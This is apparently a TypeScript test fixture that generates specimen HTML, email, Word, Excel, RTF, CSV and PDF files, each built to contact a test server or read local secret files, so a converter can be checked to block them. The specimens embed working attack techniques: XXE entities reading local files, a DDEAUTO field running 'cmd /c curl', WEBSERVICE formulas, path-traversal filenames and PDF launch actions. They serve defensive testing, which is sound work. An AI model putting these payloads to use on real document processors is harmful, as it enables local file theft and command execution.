import { crc32, deflateSync } from "node:zlib";
import { buildDocx, para, relationshipList, run, wordRoot } from "../electron/adapters/convert/office/build-docx.ts";
import { writeParts } from "../electron/adapters/convert/office/read-office.ts";

/** What documents try to reach. */
export interface Targets {
  /** Address of a server, with its port and without a slash at the end. */
  readonly origin: string;
  /** Absolute path of a text on this machine, and of a picture. */
  readonly secretText: string;
  readonly secretPicture: string;
}

function htmlThatReaches({ origin, secretText, secretPicture }: Targets): string {
  return `<!doctype html><html><head><base href="${origin}/base/"><title>SPECIMEN</title>
<meta http-equiv="refresh" content="0;url=${origin}/refresh"><link rel="stylesheet" href="${origin}/style.css">
<link rel="preload" as="image" href="${origin}/preload.png"><link rel="dns-prefetch" href="${origin}">
<link rel="stylesheet" href="file://${secretText}"><script src="${origin}/script.js"></script>
<script>fetch("${origin}/fetch"); new Image().src = "${origin}/image-object"; navigator.sendBeacon("${origin}/beacon")</script>
<style>@import url(${origin}/import.css); @font-face{font-family:x;src:url(${origin}/font.woff2)} body{background:url('${origin}/back.png');font-family:x}</style></head>
<body background="${origin}/body.png" onload="location='${origin}/onload'"><h1>SPECIMEN page</h1>
<p>Text that may be read.</p><img src="${origin}/image.png" srcset="${origin}/2x.png 2x"><img src="relative.png">
<img src="file://${secretPicture}"><img src="${secretPicture}"><img src="${origin.slice(5)}/scheme.png">
<picture><source srcset="${origin}/source.webp"><img src="${origin}/fallback.png"></picture>
<iframe src="${origin}/frame.html"></iframe><iframe src="file://${secretText}"></iframe><iframe srcdoc="&lt;img src='${origin}/srcdoc.png'&gt;"></iframe>
<object data="${origin}/object.swf"></object><object data="file://${secretText}" type="text/plain"></object><embed src="file://${secretText}">
<video src="${origin}/video.mp4" poster="${origin}/poster.png"></video><audio src="${origin}/audio.mp3" autoplay></audio>
<svg><image href="${origin}/svg.png"/><use href="${origin}/use.svg#x"/></svg><input type="image" src="${origin}/input.png">
<form action="${origin}/form" method="post"><input name="q"></form><a href="${origin}/link" ping="${origin}/ping">a link</a>
<math><mglyph src="${origin}/glyph.png"/></math><portal src="${origin}/portal"></portal><img src="${origin}/unclosed`;
}

function mailThatReaches(targets: Targets): string {
  const { origin, secretText } = targets;
  return [
    "From: A. Writer <writer@example.invalid>",
    "To: B. Reader <reader@example.invalid>",
    "Subject: SPECIMEN mail that reaches out",
    "Date: Fri, 14 Mar 2025 21:05:09 +0000",
    "Message-ID: <reaching@example.invalid>",
    `Disposition-Notification-To: <${origin}/receipt>`,
    `List-Unsubscribe: <${origin}/unsubscribe>`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="m"',
    "",
    "--m",
    "Content-Type: text/html; charset=utf-8",
    "",
    htmlThatReaches(targets),
    "--m",
    // RFC 2046, 5.2.3: the body stands elsewhere.
    `Content-Type: message/external-body; access-type=URL; URL="${origin}/external-body"`,
    "",
    "Content-Type: text/plain",
    "",
    "--m",
    `Content-Type: message/external-body; access-type=local-file; name="${secretText}"`,
    "",
    "Content-Type: text/plain",
    "",
    "--m",
    `Content-Type: text/plain; name="../../..${secretText}"`,
    `Content-Disposition: attachment; filename="../../..${secretText}"`,
    "",
    "SPECIMEN attachment",
    "--m--",
    "",
  ].join("\r\n");
}

function savedPageThatReaches(targets: Targets): string {
  const { origin } = targets;
  return [
    "From: <Saved by a browser>",
    `Snapshot-Content-Location: ${origin}/saved`,
    "Subject: SPECIMEN saved page",
    "MIME-Version: 1.0",
    'Content-Type: multipart/related; type="text/html"; boundary="m"',
    "",
    "--m",
    "Content-Type: text/html; charset=utf-8",
    `Content-Location: ${origin}/saved`,
    "",
    htmlThatReaches(targets),
    "--m--",
    "",
  ].join("\r\n");
}

function documentThatReaches({ origin, secretText, secretPicture }: Targets): Uint8Array {
  const blip = (id: string, how: "embed" | "link"): string =>
    run("").replace(
      "</w:r>",
      `<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:${how}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
    );
  const field = (code: string): string =>
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run("result")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  return buildDocx(
    [
      para(run("SPECIMEN document that reaches out")),
      para(blip("rImage", "link") + blip("rImage", "embed") + blip("rFile", "link") + blip("rFile", "embed")),
      para(field(`INCLUDEPICTURE "${origin}/field.png" \\d`) + field(`INCLUDETEXT "${secretText}"`)),
      para(`${field(`DDEAUTO cmd "/c curl ${origin}/dde"`)}<w:altChunk r:id="rChunk"/>`),
      `<w:altChunk r:id="rChunk"/><w:subDoc r:id="rSub"/>`,
    ].join(""),
    {
      "word/settings.xml": wordRoot("settings", '<w:attachedTemplate r:id="rTemplate"/>'),
      "word/_rels/settings.xml.rels": relationshipList([["rTemplate", "attachedTemplate", `${origin}/template.dotm`]]),
      "word/footnotes.xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "file://${secretText}"><!ENTITY % remote SYSTEM "${origin}/entity.dtd"> %remote;]><w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="2"><w:p><w:r><w:t>&leak;</w:t></w:r></w:p></w:footnote></w:footnotes>`,
    },
    [
      ["rImage", "image", `${origin}/linked.png`],
      ["rFile", "image", `file://${secretPicture}`],
      ["rChunk", "aFChunk", `file://${secretText}`],
      ["rSub", "subDocument", `file://${secretText}`],
      ["rOle", "oleObject", `file://${secretText}`],
      ["rNotes", "footnotes", "footnotes.xml"],
      ["rSettings", "settings", "settings.xml"],
      ["rOutside", "image", `../../../../../../../..${secretPicture}`],
    ],
  );
}

function entityDocument({ secretText }: Targets): Uint8Array {
  return buildDocx("", {
    "word/document.xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "file://${secretText}">]>${wordRoot("document", `<w:body>${para(run("SPECIMEN &leak;"))}</w:body>`).replace(/^<\?xml[^>]*>/u, "")}`,
  });
}

function workbookThatReaches({ origin, secretText }: Targets): Uint8Array {
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const r = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
  return writeParts({
    "_rels/.rels": relationshipList([["r1", "officeDocument", "xl/workbook.xml"]]),
    "xl/workbook.xml": `<workbook ${main} ${r}><sheets><sheet name="S" sheetId="1" r:id="s1"/></sheets><externalReferences><externalReference r:id="x1"/></externalReferences></workbook>`,
    "xl/_rels/workbook.xml.rels": relationshipList([
      ["s1", "worksheet", "worksheets/sheet1.xml"],
      ["x1", "externalLink", "externalLinks/externalLink1.xml"],
      ["c1", "connections", "connections.xml"],
    ]),
    "xl/worksheets/sheet1.xml": `<worksheet ${main} ${r}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>SPECIMEN sheet</t></is></c><c r="B1"><f>WEBSERVICE("${origin}/webservice")</f></c><c r="C1"><f>'file://${secretText}'!A1</f></c><c r="D1"><f>IMAGE("${origin}/image.png")</f></c></row></sheetData></worksheet>`,
    "xl/externalLinks/externalLink1.xml": `<externalLink ${main} ${r}><externalBook r:id="e1"/></externalLink>`,
    "xl/externalLinks/_rels/externalLink1.xml.rels": relationshipList([
      ["e1", "externalLinkPath", `${origin}/book.xlsx`],
    ]),
    "xl/connections.xml": `<connections ${main}><connection id="1" type="4"><webPr url="${origin}/connection"/></connection></connections>`,
  });
}

function pdfThatReaches({ origin, secretText }: Targets): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${origin}/open)>>/AA<</WC<</S/Launch/F(${secretText})>>>>/AcroForm<</Fields[]/XFA 6 0 R>>>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents[4 0 R 7 0 R]/Resources<</Font<</F1 5 0 R>>/XObject<</X 8 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F(${origin}/submit)>>>>>><</Type/Annot/Subtype/FileAttachment/Rect[9 9 19 19]/FS<</Type/Filespec/F(${secretText})>>>>]/AA<</O<</S/GoToR/F<</FS/URL/F(${origin}/gotor)>>/D[0/Fit]>>>>>>`,
    "<</Length 53>>\nstream\nBT /F1 14 Tf 72 700 Td (SPECIMEN outward) Tj ET /X Do \nendstream",
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    `<</Length 60>>\nstream\n${`<xdp><template url="${origin}/xfa"/></xdp>`.padEnd(60)}\nendstream`,
    // ISO 32000-1, 7.3.8.2: a stream whose bytes stand in another file.
    `<</Length 0/F<</FS/URL/F(${origin}/stream)>>>>\nstream\n\nendstream`,
    `<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(${secretText})/Page 0>>/Length 0>>\nstream\n\nendstream`,
  ];
  return `%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj ${object}\nendobj\n`).join("")}trailer<</Root 1 0 R/Size 9>>\n%%EOF\n`;
}

/** Documents of each format that can name a place outside of itself; all can be read, and none may get there. */
export function makeReachingDocuments(targets: Targets): Readonly<Record<string, Uint8Array | string>> {
  const { origin, secretText, secretPicture } = targets;
  return {
    "page.html": htmlThatReaches(targets),
    "mail.eml": mailThatReaches(targets),
    "box.mbox": `From writer@example.invalid Fri Mar 14 21:05:09 2025\n${mailThatReaches(targets).replaceAll("\r\n", "\n")}\n`,
    "saved.mhtml": savedPageThatReaches(targets),
    "document.docx": documentThatReaches(targets),
    "entity.docx": entityDocument(targets),
    "book.xlsx": workbookThatReaches(targets),
    "notes.md": `# SPECIMEN notes\n\n![remote](${origin}/markdown.png) ![local](file://${secretPicture}) <img src="${origin}/raw.png">\n`,
    "memo.rtf": `{\\rtf1\\ansi SPECIMEN memo {\\*\\template ${origin}/template.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${origin}/rtf.png" \\\\d}{\\fldrslt picture}}{\\field{\\*\\fldinst INCLUDETEXT "${secretText}"}{\\fldrslt text}}{\\object\\objautlink{\\*\\objclass Package}{\\*\\objdata 01050000}}\\par}`,
    "table.csv": `a,b\nSPECIMEN,"=WEBSERVICE(""${origin}/csv"")"\n`,
    "outward.pdf": pdfThatReaches(targets),
  };
}

/** A picture of 16 by 16 pixels whose compressed rows are given as a marker to search for. */
export function makeSecretPicture(): { readonly png: Buffer; readonly rows: Buffer } {
  const pixels = Buffer.alloc(16 * 17, 0);
  for (let at = 0; at < pixels.length; at += 1) pixels[at] = at % 17 === 0 ? 0 : (at * 73) % 251;
  const rows = deflateSync(pixels);
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const tail = Buffer.alloc(4);
    tail.writeUInt32BE(crc32(body));
    return Buffer.concat([head, body, tail]);
  };
  const header = Buffer.from([0, 0, 0, 16, 0, 0, 0, 16, 8, 0, 0, 0, 0]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return {
    png: Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))]),
    rows,
  };
}
